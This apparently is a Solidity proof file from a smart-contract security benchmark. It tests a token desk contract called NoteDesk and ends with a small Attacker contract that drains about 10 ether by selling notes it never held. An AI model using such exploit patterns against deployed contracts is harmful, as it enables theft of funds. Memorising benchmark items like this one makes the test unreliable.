pragma solidity 0.4.26;

import "./NoteDesk.sol";

// assay-canary-96a04e28-bba7-4388-8617-4787cce6ada3

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x09E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint private constant START = 1500000000;

    NoteDesk private desk;
    EtherNote private note;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.prank(OWNER);
        desk = new NoteDesk();
        note = desk.note();
        vm.deal(ANA, 20 ether);
        vm.startPrank(ANA);
        desk.buy.value(6 ether)();
        require(address(desk).call.value(4 ether)());
        vm.stopPrank();
        mallory = new Attacker(desk);
    }

    function test_Regular() public {
        require(note.balanceOf(ANA) == 10000 ether && note.totalSupply() == 10000 ether);
        vm.startPrank(ANA);
        desk.sell(1000 ether);
        require(ANA.balance == 10.99 ether && desk.earned() == 0.01 ether);
        require(note.transfer(BEN, 500 ether) && note.approve(BEN, 2000 ether));
        desk.lock(2000 ether);
        vm.stopPrank();
        require(desk.claims(ANA) == 2 ether && note.totalSupply() == 7000 ether);
        vm.startPrank(BEN);
        require(note.transferFrom(ANA, BEN, 1500 ether) && note.allowance(ANA, BEN) == 500 ether);
        desk.sell(2000 ether);
        vm.stopPrank();
        require(BEN.balance == 1.98 ether && note.balanceOf(ANA) == 5000 ether);
        vm.warp(START + 30 days);
        vm.prank(ANA);
        desk.collect();
        require(ANA.balance == 12.99 ether && address(desk).balance == 5.03 ether);
        vm.startPrank(OWNER);
        desk.takeEarned(OWNER);
        desk.setOwner(BEN);
        vm.stopPrank();
        require(OWNER.balance == 0.03 ether && desk.owner() == BEN);
    }

    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert("");
        desk.buy.value(0)();
        vm.expectRevert("");
        desk.sell(999);
        vm.expectRevert("");
        desk.lock(999);
        vm.expectRevert("");
        desk.lock(10000 ether + 1000);
        vm.expectRevert("");
        desk.collect();
        desk.lock(1000 ether);
        vm.warp(START + 30 days - 1);
        vm.expectRevert("");
        desk.collect();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("");
        desk.takeEarned(BEN);
        vm.expectRevert("");
        desk.setOwner(BEN);
        vm.expectRevert("");
        note.issue(BEN, 1);
        vm.expectRevert("");
        note.retire(ANA, 1);
        require(!note.transferFrom(ANA, BEN, 1) && !note.transfer(ANA, 1));
        vm.stopPrank();
        vm.prank(ANA);
        require(!note.transfer(0, 1));
        vm.prank(OWNER);
        vm.expectRevert("");
        desk.setOwner(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 9.9 ether);
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    NoteDesk private desk;

    constructor(NoteDesk _desk) public {
        desk = _desk;
    }

    function run() public {
        desk.sell(10000 ether);
    }

    function () public payable {}
}
